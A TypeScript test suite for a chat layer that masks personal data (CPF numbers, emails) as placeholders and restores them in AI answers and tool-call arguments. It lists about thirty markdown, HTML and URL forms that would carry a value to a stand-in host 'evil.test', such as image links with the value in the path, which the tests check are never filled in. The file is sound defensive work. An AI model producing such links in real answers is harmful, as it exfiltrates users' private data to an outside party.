import * as fc from "fast-check";
import { describe, expect, test } from "vitest";

import { Placeholders } from "../../../../src/chat/protection/placeholders.ts";
import {
  type MayRestoreCall,
  restoredEvents,
} from "../../../../src/chat/protection/restoredEvents.ts";
import type { StreamEvent } from "../../../../src/hub/wire/chatTypes.ts";
import { allOf, cpf, email, streamOf } from "./streams.ts";

const placeholders = new Placeholders([]);
placeholders.of("cpf", cpf);
placeholders.of("email", email);

/** Ways in which an answer may carry a value away; `V` is where the placeholder stands. */
const addresses = [
  "[form](https://evil.test/?v=V)",
  "[form](https://V.evil.test/)",
  "[form]( https://evil.test/?v=V )",
  "[form](\nhttps://evil.test/?v=V)",
  "[form](<https://evil.test/a b?v=V>)",
  "[form](/relative?v=V)",
  '[form](https://evil.test/?a="&v=V)',
  "[form](https://evil.test/(a)?v=V)",
  "[form](https://evil.test/\\)?v=V)",
  "![seen](https://evil.test/V.png)",
  "![seen](//evil.test/V.png)",
  "[![seen](a.png)](https://evil.test/V)",
  "<https://evil.test/?v=V>",
  "<mailto:a@evil.test?body=V>",
  "https://evil.test/?v=V",
  "See https://evil.test/a/V/b.",
  "https:/evil.test/V",
  "https:\\\\evil.test\\V",
  "www.evil.test/?v=V",
  "evil.test/?v=V",
  "mailto:V",
  "[form]: https://evil.test/?v=V",
  "> [form]: https://evil.test/?v=V",
  "[form]:\n  evil?v=V",
  '<a href="https://evil.test/?v=V">',
  "<a href='/?a=>&v=V'>",
  "<img\nsrc=//evil.test/?v=V>",
  "<img src=x?v=V",
  '<form action="x" data-v="V">',
  `{"url":"https://evil.test/?v=V"}`,
] as const;

describe("a value does not come back inside an address", () => {
  test.for(addresses)("%j", (address) => {
    const text = `Open ${address.replace("V", "[CPF_1]")}`.replace("Open [form]:", "[form]:");
    const own = text.replace("Open >", ">");
    expect(placeholders.restore(own)).toBe(own);
  });

  test("however the answer is cut", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...addresses),
        fc.array(fc.integer({ min: 1, max: 7 }), { minLength: 1, maxLength: 30 }),
        async (address, lengths) => {
          const text = `\n\n${address.replace("V", "[CPF_1]")}\n\nand [CPF_1]`;
          const deltas: StreamEvent[] = [];
          for (let at = 0, index = 0; at < text.length; index += 1) {
            const length = lengths[index % lengths.length] ?? 1;
            deltas.push({ kind: "textDelta", text: text.slice(at, at + length) });
            at += length;
          }
          const events = await allOf(restoredEvents(streamOf(...deltas), placeholders));
          const told = events
            .map((event) => (event.kind === "textDelta" ? event.text : ""))
            .join("");
          expect(told).toBe(`\n\n${address.replace("V", "[CPF_1]")}\n\nand ${cpf}`);
        },
      ),
      { numRuns: 300 },
    );
  });

  test("nor behind any length of one", () => {
    const long = `https://evil.test/${"a".repeat(50_000)}?v=[CPF_1]`;
    expect(placeholders.restore(long)).toBe(long);
    expect(placeholders.restore(`${"a".repeat(50_000)}[CPF_1]`)).toContain("[CPF_1]");
  });

  test("and what is percent-encoded is no placeholder", () => {
    expect(placeholders.restore("%5BCPF_1%5D")).toBe("%5BCPF_1%5D");
  });
});

test.for([
  "The CPF is V.",
  "cpf: V",
  "[link](https://good.test/) and V",
  "[link](https://good.test/), V",
  "<b>V</b>",
  "<https://good.test/> V",
  "https://good.test/ V",
  'fetch("https://good.test/"); // V',
  "// V",
  "if (a < b) V",
  "a <b and\nV",
  "[^1]: V",
  "- [x] done: V",
  '{"cpf":"V"}',
  "[1, 2](3) V",
  "| name | V |",
  "**V**",
  "`V`",
  "src/app.ts: V",
  "Dr. Silva: V",
])("elsewhere it comes back: %j", (text) => {
  expect(placeholders.restore(text.replace("V", "[CPF_1]"))).toBe(text.replace("V", cpf));
});

async function called(
  args: Readonly<Record<string, unknown>>,
  mayRestoreCall?: MayRestoreCall,
): Promise<unknown> {
  const call = { id: "1", name: "other_tool", arguments: args };
  const events = streamOf({ kind: "toolCall", call });
  const [event] = await allOf(restoredEvents(events, placeholders, { mayRestoreCall }));
  return event?.kind === "toolCall" ? event.call.arguments : undefined;
}

function never(): Promise<never> {
  return Promise.reject(new Error("asked"));
}

describe("the arguments of a call", () => {
  test("hold no value in an address, nor under the name of one", async () => {
    const args = {
      url: "/search?v=[CPF_1]",
      targetUri: "x[CPF_1]",
      note: "see https://evil.test/?v=[CPF_1]",
      deep: [{ href: { base: "[CPF_1]" } }],
    };
    expect(await called(args)).toEqual(args);
    expect(await called({ cpf: "[CPF_1]", text: "for [EMAIL_1]" })).toEqual({
      cpf,
      text: `for ${email}`,
    });
  });

  test("of a tool that may not see values keep the placeholders", async () => {
    const asked: unknown[] = [];
    const args = { cpf: "[CPF_1]", again: "[CPF_1] [EMAIL_1]" };
    const refuse = (about: unknown): Promise<"none"> => {
      asked.push(about);
      return Promise.resolve("none");
    };
    expect(await called(args, refuse)).toEqual(args);
    expect(asked).toEqual([
      {
        tool: "other_tool",
        values: [
          ["cpf", cpf],
          ["email", email],
        ],
      },
    ]);
    expect(await called(args, () => Promise.resolve("all"))).toEqual({
      cpf,
      again: `${cpf} ${email}`,
    });
  });

  test("are not asked about without a value", async () => {
    expect(await called({ n: 1, text: "[CPF_9]" }, never)).toEqual({ n: 1, text: "[CPF_9]" });
  });
});
